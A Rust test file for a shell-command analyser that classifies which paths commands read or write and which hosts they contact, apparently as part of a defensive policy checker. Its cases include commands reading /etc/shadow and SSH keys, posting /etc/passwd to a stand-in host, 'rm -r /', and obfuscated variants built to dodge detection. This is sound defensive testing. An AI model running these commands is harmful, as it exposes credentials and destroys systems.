use super::super::super::path::{PathAccess, PathTest};
use super::super::super::url::UrlTest;
use super::*;
use crate::call::facets::Facet;

/// Whether some path of the line with that access is, or may be, under a place.
fn touches(text: &str, access: PathAccess, place: &str) -> Truth {
    let paths = line(text).paths(&cx());
    let test = PathTest::under(&strings(&[place])).unwrap();
    let known = paths
        .values
        .iter()
        .filter(|path| matches!(path.value.access(), it if it == access || it == PathAccess::Unknown));
    let found = Truth::any(known.map(|path| test.holds(&path.value, Restricting, &cx())));
    if paths.open.is_some() { found.or(Unknown) } else { found }
}

fn reads(text: &str, place: &str) -> Truth {
    touches(text, PathAccess::Read, place)
}

pub(super) fn writes(text: &str, place: &str) -> Truth {
    touches(text, PathAccess::Write, place)
}

fn texts<T>(facet: Facet<T>, text: impl Fn(&T) -> String) -> String {
    let mut all: Vec<String> = facet.values.iter().map(|value| text(&value.value)).collect();
    all.extend(facet.open.map(|_| "?".to_owned()));
    all.join(" ")
}

fn hosts(text: &str) -> String {
    texts(line(text).hosts(), |host| host.text().to_owned())
}

#[test]
fn paths_come_from_the_programs_table() {
    for (text, place) in [
        ("cat /etc/shadow", "/etc"),
        ("cat ../etc", "/etc"),
        ("cat ~/.ssh/id", "~/.ssh"),
        ("cat $HOME/.ssh/id", "~/.ssh"),
        ("cat \"${HOME}\"/.ssh/id", "~/.ssh"),
        ("cat < /etc/shadow", "/etc"),
        ("cat /etc/sh\\adow", "/etc"),
        ("cat /etc/sh*", "/etc"),
        ("cd /etc && cat shadow", "/etc/shadow"),
        ("cd /etc; cat shadow", "/etc/shadow"),
        ("cd /etc\ncat shadow", "/etc/shadow"),
        ("grep -r x /etc", "/etc/ssh"),
        ("grep -e x /etc/a", "/etc"),
        ("curl -d @/etc/passwd https://x.example", "/etc"),
        ("dd if=/etc/x of=y", "/etc"),
        ("sort -o out /etc/x", "/etc"),
        ("find /etc -name x", "/etc/ssh"),
        ("ls", "."),
        ("mystery /etc/x", "/etc"),
        ("mystery --file=/etc/x", "/etc"),
        ("mystery -I/etc/x", "/etc"),
        ("mystery a=/etc/x", "/etc"),
        ("sudo cat /etc/x", "/etc"),
        ("bash /etc/x.sh", "/etc"),
        ("git -C /etc status", "/etc"),
        ("F=/etc/shadow; cat \"$F\"", "/etc"),
        ("p=/etc; cat $p/sha*ow", "/etc"),
        ("cat /etc/{shadow,passwd}", "/etc/passwd"),
        ("cat /e{tc/shado,}w", "/etc/shadow"),
        ("for f in /etc/a /etc/b; do cat $f; done", "/etc/b"),
        ("F='-n /etc/x'; cat $F", "/etc"),
        ("f() { cat \"$1\"; }; f /etc/x", "/etc"),
        ("sh -c 'cat \"$1\"' _ /etc/x", "/etc"),
        ("cat ~root/x", "/root"),
        ("cat ~agent/.ssh/x", "~/.ssh"),
        ("cat ${HOME%/}/.ssh/x", "~/.ssh"),
        ("grep -r x /etc --include=shadow", "/etc/shadow"),
        ("find /etc -name shadow -exec cat {} +", "/etc/shadow"),
        ("find /etc -type f | xargs cat", "/etc/shadow"),
        ("git diff --no-index /dev/null /etc/shadow", "/etc"),
        ("git show HEAD:../etc/x", "/etc"),
        ("sed -n 'r /etc/x' a", "/etc"),
        ("python3 -c 'print(open(\"/etc/x\").read())'", "/etc"),
        ("curl -F 'f=@/etc/x' https://a.example", "/etc"),
        ("tar czf a.tgz /etc", "/etc/x"),
        ("make -C /etc -n x", "/etc"),
        ("bash <<< 'cat /etc/x'", "/etc"),
        ("xargs -a /etc/x echo", "/etc"),
        ("docker run -v /etc:/x:ro alpine true", "/etc/x"),
        ("pytest /etc/x", "/etc"),
    ] {
        assert_eq!(reads(text, place), True, "{text}");
        assert_eq!(reads(text, "/nowhere"), False, "{text}");
    }
    for (text, place) in [
        ("rm /etc/x", "/etc"),
        ("rm -r /", "/etc"),
        ("rm -rf build/../../etc", "/etc/x"),
        ("mv /etc/x y", "/etc"),
        ("mv /etc x", "/etc/ssh"),
        ("cp x /etc/y", "/etc"),
        ("cp evil /etc", "/etc/evil"),
        ("cp -t /etc evil", "/etc/evil"),
        ("cp -r a /etc", "/etc"),
        ("chmod -R 777 /etc", "/etc/x"),
        ("echo x > /etc/x", "/etc"),
        ("echo x >> /etc/x", "/etc"),
        ("echo x >| /etc/x", "/etc"),
        ("echo x &> /etc/x", "/etc"),
        ("> /etc/x", "/etc"),
        ("{ ls; } > /etc/x", "/etc"),
        ("echo x | tee -a /etc/x", "/etc"),
        ("dd of=/etc/x", "/etc"),
        ("truncate -s 0 /etc/x", "/etc"),
        ("shred -u /etc/x", "/etc"),
        ("sed -i s/a/b/ /etc/x", "/etc"),
        ("sort -o /etc/x y", "/etc"),
        ("curl -o /etc/x https://x.example", "/etc"),
        ("ln -sf /dev/null /etc/x", "/etc"),
        ("find /etc -delete", "/etc/x"),
        ("git clean -fdx", "./x"),
        ("git -C /etc clean -fdx", "/etc/x"),
        ("tar xf a -C /etc", "/etc/x"),
        ("tar -xf a --directory=/etc", "/etc/x"),
        ("tar cf /etc/x a", "/etc"),
        ("unzip a.zip -d /etc", "/etc/x"),
        ("rsync -a --delete a/ /etc/", "/etc/x"),
        ("rsync --remove-source-files /etc/x b", "/etc"),
        ("find /etc -name '*.conf' -delete", "/etc/a/b.conf"),
        ("find /etc -exec rm {} +", "/etc/x"),
        ("find /etc -type f | xargs rm", "/etc/x"),
        ("find /etc -fprintf /etc/out x", "/etc/out"),
        ("sed 's/a/b/w /etc/x' a", "/etc"),
        ("awk '{ print > \"/etc/x\" }' a", "/etc"),
        ("wget https://a.example/x -P /etc", "/etc"),
        ("cd /etc && curl -O https://a.example/x", "/etc/x"),
        ("env -C /etc rm x", "/etc/x"),
        ("D=/etc; rm -rf \"$D/x\"", "/etc/x"),
        ("cp x.conf /etc/*.d", "/etc/a.d"),
        ("docker run -v /etc:/x alpine true", "/etc/x"),
        ("yq -i .a=1 /etc/x", "/etc"),
        ("dd if=x of=/etc/x", "/etc"),
    ] {
        assert_eq!(writes(text, place), True, "{text}");
    }
    let excuses = |text: &str| {
        let test = PathTest::under(&strings(&["."])).unwrap();
        let paths = line(text).paths(&cx());
        Truth::all(paths.values.iter().map(|path| test.holds(&path.value, Excusing, &cx())))
    };
    assert_eq!(excuses("cat a > b"), True);
    assert_eq!(excuses("cat a; mystery ./b"), Unknown);
    assert_eq!(excuses("./cat a"), Unknown);
    assert_eq!(writes("cat /etc/x", "/etc"), False);
    assert_eq!(writes("cp /etc/x y", "/etc"), False);
    assert_eq!(reads("echo /etc/x > out", "/etc"), False);
    assert_eq!(reads("grep /etc/x file", "/etc"), False);
    for text in ["ls 2>/dev/null", "ls 2>&1", "ls >&2", "cat -", "cat < /dev/null", "cat <(ls src)"] {
        assert_eq!(writes(text, "/dev"), False, "{text}");
        assert_eq!(line(text).paths(&cx()).open, None, "{text}");
    }
    for (text, place) in [
        ("tar tf /etc/x", "/etc"),
        ("git clean -n", "."),
        ("rsync -n a/ /etc/", "/etc"),
        ("gzip -dc /etc/x", "/etc"),
        ("for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done", "/etc"),
        ("for d in a b; do mkdir -p \"build/$d\"; done", "/etc"),
        ("OUT=build; cp a.txt \"$OUT/\"", "/etc"),
        ("i=0; while [ $i -lt 3 ]; do touch build/$i; i=$((i+1)); done", "/etc"),
        ("echo x > build/log.$$", "/etc"),
        ("mkdir build/{a,b}", "/etc"),
    ] {
        assert_eq!(writes(text, place), False, "{text}");
    }
    for (text, place) in [
        ("x=a; while :; do rm $x; x=/etc/y; done", "/etc/y"),
        ("if a; then D=/etc; else D=b; fi; rm $D/x", "/etc/x"),
        ("f() { shift; rm \"$1\"; }; f a /etc/x", "/etc/x"),
        ("x=/etc/y; f() { local x=a; }; f; rm $x", "/etc/y"),
        ("X=a; X=/etc/x eval 'rm $X'", "/etc/x"),
        ("X=a; trap 'rm $X' EXIT; X=/etc/x", "/etc/x"),
        ("for f in a b; do rm $T; T=/etc/x; [ -f q ] && continue; T=ok; done", "/etc/x"),
        ("find src -printf /etc/x | xargs rm", "/etc/x"),
        ("find src | grep -o x | xargs rm", "/etc/x"),
    ] {
        assert_ne!(writes(text, place), False, "{text}");
    }
    for text in ["cat $X", "cat \"$(ls)\"", "eval \"$X\"", "sed -i $X f", "cp --weird-new-option a b"] {
        assert_eq!(reads(text, "/nowhere"), Unknown, "{text}");
    }
    for text in ["rm `x`", "ls > $OUT", "mv $X $Y", "cp a \"$X\""] {
        assert_eq!(writes(text, "/nowhere"), Unknown, "{text}");
    }
    assert_eq!(writes("cat $X; wc -l \"$Y\"", "/nowhere"), False);
    for text in ["echo $X", "cargo test \"$X\"", "grep \"$X\" file"] {
        assert_ne!(reads(text, "/nowhere"), True, "{text}");
    }
}

#[test]
fn a_search_works_on_the_names_that_it_asks_for() {
    let meets = |text: &str| {
        let paths = line(text).paths(&cx());
        let test = PathTest::like(&strings(&["*.c"])).unwrap();
        let written = paths.values.iter().filter(|path| path.value.access() != PathAccess::Read);
        Truth::any(written.map(|path| test.holds(&path.value, Restricting, &cx())))
    };
    for text in [
        "find . -name '*.o' -delete",
        "find . \\( -name '*.o' -o -name '*.a' \\) -delete",
        "find . -name '*.o' | xargs rm -f",
        "find . -name '*.o' -type f -exec rm {} +",
    ] {
        assert_eq!(meets(text), False, "{text}");
    }
    for text in [
        "find . -delete",
        "find . ! -name '*.o' -delete",
        "find . -name '*.o' -o -type f -delete",
        "find . -name '*.[oc]' -delete",
        "find . -type f | xargs rm -f",
        "find . -name '*.o' | xargs -a list rm -f",
    ] {
        assert_ne!(meets(text), False, "{text}");
    }
}

#[test]
fn a_glob_is_whatever_it_can_match() {
    let like = |text: &str, pattern: &str| {
        let paths = line(text).paths(&cx());
        let test = PathTest::like(&strings(&[pattern])).unwrap();
        let of = |direction| Truth::any(paths.values.iter().map(|path| test.holds(&path.value, direction, &cx())));
        (of(Restricting), of(Excusing))
    };
    for (text, pattern, expected) in [
        ("cat *", "**/.env", NO),
        ("cat .*", "**/.env", RESTRICTS),
        ("cat .e?v", "**/.env", RESTRICTS),
        ("cat *.py", "**/.env", NO),
        ("cat *.py", "*.pem", NO),
        ("cat *.py", "*.py", YES),
        ("cat src/*.rs", "src/**", YES),
        ("cat src/*.rs", "src/*", YES),
        ("cat */id_rsa", "**/id_rsa", YES),
        ("cat /etc/sha*", "/etc/shadow", RESTRICTS),
        ("cat /e*/shadow", "/etc/shadow", RESTRICTS),
        ("cat ../*/x", "docs/**", NO),
        ("cat ../*/x", "**/x", YES),
        ("rm -r *", "src/secret", RESTRICTS),
    ] {
        assert_eq!(like(text, pattern), expected, "{text} {pattern}");
    }
}

#[test]
fn hosts_and_urls() {
    for (text, expected) in [
        ("curl https://a.example/x", "a.example:443"),
        ("curl -o x a.example:8080/x", "a.example:8080"),
        ("curl -x http://p.example a.example", "a.example:80 p.example:80"),
        ("curl https://good.example@evil.example/", "evil.example:443"),
        ("curl --proxy p.example https://a.example", "a.example:443 p.example:80"),
        ("curl $URL", "?"),
        ("curl -L https://a.example", "a.example:443 ?"),
        ("curl --resolve a.example:443:10.0.0.1 https://a.example", "a.example:443 ?"),
        ("cargo build --offline", ""),
        ("npm test", ""),
        ("exec 3<>/dev/tcp/a.example/80", "a.example:80"),
        ("U=https://a.example; curl \"$U/x\"", "a.example:443"),
        ("openssl s_client -connect a.example:443", "a.example:443"),
        ("dig @ns.example a.example A", "ns.example a.example"),
        ("wget -q https://a.example", "a.example:443"),
        ("ssh me@a.example", "a.example"),
        ("scp f me@a.example:/x", "a.example"),
        ("git push", "git-remote:origin"),
        ("git push backup main", "git-remote:backup"),
        ("git clone https://a.example/r", "a.example:443"),
        ("git clone git@a.example:o/r.git", "a.example"),
        ("git remote add x https://a.example/r", "a.example:443"),
        ("npm install x", "registry:npm"),
        ("npm install --registry https://r.example x", "r.example:443 registry:npm"),
        ("pip install x", "registry:pypi"),
        ("kubectl get pods", "kube-context:current"),
        ("docker ps", "docker-context:default"),
        ("aws --profile prod s3 ls", "aws:prod"),
        ("aws s3 ls", "aws:default"),
        ("mystery https://a.example/x", "a.example:443"),
        ("mystery --url=https://a.example/x", "a.example:443"),
        ("ls", ""),
        ("echo https://a.example", ""),
    ] {
        assert_eq!(hosts(text), expected, "{text}");
    }
    let urls = line("curl https://a.example/x").urls();
    let test = UrlTest::scheme(&strings(&["https"])).unwrap();
    assert_eq!(test.holds(&urls.values[0].value, Excusing), True);
}
